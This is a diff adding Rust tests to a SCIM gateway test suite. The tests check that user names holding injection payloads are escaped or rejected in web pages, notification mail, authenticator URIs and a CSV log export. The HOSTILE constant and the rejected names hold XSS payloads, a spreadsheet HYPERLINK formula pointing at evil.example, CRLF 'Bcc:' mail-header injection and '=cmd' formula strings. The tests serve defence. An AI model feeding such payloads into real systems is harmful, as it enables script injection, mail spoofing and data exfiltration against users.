@@ -1,6 +1,8 @@
 //! SCIM beyond what Okta sends: versions, bulk requests, pages by cursor, searches over everything, discovery. Each
 //! over HTTP through the gateway; tests of a row of the bad-input catalogue bear its number.
 
+use std::time::Duration;
+
 use anyhow::Context;
 use serde_json::{Value, json};
 use shared::{
@@ -8,10 +10,12 @@ use shared::{
     tenant::{Role, resource_id},
 };
 use tests::{
+    canary::filled,
     raw::Reply,
-    routes::encoded,
+    routes::{encoded, is_scim},
     site::{Site, Tenant},
 };
+use url::Url;
 
 type Outcome = anyhow::Result<()>;
 
@@ -314,4 +318,123 @@ async fn discovery_advertises_what_is_kept_and_me_is_nobody() -> Outcome {
         assert_eq!(me.json()["status"], "501");
     }
     Ok(())
+}
+
+/// What a name may try where it is shown: to be markup, a formula, an address, another line. Each has the mark, which no
+/// id has.
+const HOSTILE: [&str; 3] = [
+    "\"'><img src=x onerror=alert(1)><script>alert(1)</script>&mallory;@acme.example",
+    "=HYPERLINK(\"http://evil.example/?mallory\",\"x\")&secret=mallory@acme.example",
+    "javascript:alert('mallory')//\u{202e}\u{2028}Bcc: mallory@acme.example",
+];
+const MARK: &str = "mallory";
+
+async fn html(acme: &Tenant, path: &str) -> anyhow::Result<Reply> {
+    acme.send(&acme.request("GET", path).with("accept", "text/html")).await
+}
+
+/// Somebody whose name is on every page of theirs, in mail and in an address, bears each of the names in turn.
+#[tokio::test(flavor = "multi_thread")]
+async fn c23_a_name_is_text_wherever_it_comes_out() -> Outcome {
+    let (site, acme) = acme().await?;
+    let path = format!("/scim/v2/Users/{}", acme.admin.id);
+    let named = |name: &str| {
+        let emails = json!([{ "value": "sponsor@acme.example", "type": "work", "primary": true }]);
+        json!({ "userName": name, "displayName": name, "title": name, "emails": emails })
+    };
+    for name in ["mallory\r\nBcc: all@evil.example", "mallory\u{0}", "mallory\u{85}x", &"mallory".repeat(200)]
+    {
+        acme.call("PUT", &path, &named(name)).await?.expect(400)?;
+    }
+    // What else of a request is kept in the log.
+    acme.get("/scim/v2/Users/%3Dcmd%28mallory%29").await?.expect(404)?;
+    acme.get(&format!("/scim/v2/Users?filter={}", encoded("userName eq \"=mallory\""))).await?.expect(200)?;
+    let odd = acme.request("GET", "/scim/v2/Users/nobody").without("x-correlation-id");
+    acme.send(&odd.with("x-correlation-id", "=cmd|mallory")).await?.expect(404)?;
+    for name in HOSTILE {
+        let shown = acme.call("PUT", &path, &named(name)).await?.expect(200)?.json();
+        assert_eq!((&shown["userName"], &shown["title"]), (&json!(name), &json!(name)), "verbatim");
+        in_mail(&site, &acme, name).await?;
+        on_pages(&site, &acme, name).await?;
+        in_an_address(&site, &acme, name).await?;
+    }
+    in_files(&acme, 10).await
+}
+
+/// A mail of one line, to the one it is for, with a subject that is ours.
+async fn in_mail(site: &Site, acme: &Tenant, name: &str) -> Outcome {
+    // The sponsor is named from the start.
+    for action in ["withdraw", "name"] {
+        let change = json!({ "user": name, "action": action });
+        acme.call("POST", "/security/break-glass", &change).await?.expect(200)?;
+    }
+    let outbox = site.stack.cloud.ses().outbox();
+    let mail = outbox.last().context("a mail")?;
+    assert_eq!(mail.subject, "Break-glass changed");
+    assert_eq!(mail.to, ["sponsor@acme.example"]);
+    assert!(mail.html.is_none() && mail.text.starts_with(&format!("{name} is named for")), "{}", mail.text);
+    assert!(mail.text.lines().count() == 1 && !mail.text.contains('\r'), "{:?}", mail.text);
+    Ok(())
+}
+
+/// Every page that there is: the name is on it escaped, or not at all.
+async fn on_pages(site: &Site, acme: &Tenant, name: &str) -> Outcome {
+    let escaped = [('&', "&amp;"), ('<', "&lt;"), ('>', "&gt;"), ('"', "&quot;")]
+        .iter()
+        .fold(name.to_owned(), |text, (special, entity)| text.replace(*special, entity));
+    let mut on = 0;
+    for place in site.places()? {
+        if !place.methods.contains_key("GET") || is_scim(&place.path) {
+            continue;
+        }
+        let path = filled(acme, &place);
+        let page = html(acme, &path).await?;
+        let rest = page.body.replace(&escaped, "");
+        assert!(page.status < 500 && !rest.contains(MARK), "{name} on {path}: {rest}");
+        on += usize::from(rest.len() < page.body.len());
+    }
+    assert!(on >= 8, "on {on} pages only");
+    for (path, form) in [
+        ("/users", format!("<td>{escaped}</td>")),
+        ("/sessions", format!("<td>{escaped}<span")),
+        ("/security/break-glass", format!("value=\"{escaped}\"")),
+    ] {
+        let page = html(acme, path).await?.expect(200)?.body;
+        assert!(
+            page.contains(&form) && !page.contains("href=\"javascript:"),
+            "{path} without {form}: {page}"
+        );
+    }
+    Ok(())
+}
+
+/// The address that an authenticator app reads: a name adds nothing to what it says.
+async fn in_an_address(site: &Site, acme: &Tenant, name: &str) -> Outcome {
+    let asked = acme.anonymous("POST", "/sign-in").json(&json!({ "email": name }));
+    acme.send(&asked).await?.expect(200)?;
+    let outbox = site.stack.cloud.ses().outbox();
+    let link = outbox.last().and_then(|mail| mail.text.split("token=").nth(1)).context("a link")?;
+    let token = link.split_whitespace().next().context("a token")?;
+    let enrol = acme.anonymous("POST", "/sign-in/enrol").json(&json!({ "token": token }));
+    let shown = acme.send(&enrol).await?.expect(200)?.json();
+    let address = Url::parse(shown["uri"].as_str().context("an address")?)?;
+    let says: Vec<_> = address.query_pairs().map(|(name, _)| name.into_owned()).collect();
+    assert_eq!(says, ["secret", "issuer", "algorithm", "digits", "period"]);
+    assert!(address.query_pairs().all(|(_, value)| !value.contains(MARK)), "{name}");
+    Ok(())
+}
+
+/// The file for a spreadsheet, once it has `rows`: it holds no name, and no cell is a formula.
+async fn in_files(acme: &Tenant, rows: usize) -> Outcome {
+    for _ in 0..200 {
+        let file = acme.get("/security/scim/log.csv").await?.expect(200)?.body;
+        assert!(!file.contains(MARK), "{file}");
+        let mut cells = file.lines().flat_map(|line| line.trim_matches('"').split("\",\""));
+        assert!(cells.all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{file}");
+        if file.lines().count() > rows {
+            return Ok(());
+        }
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    anyhow::bail!("no {rows} rows in the file")
 }
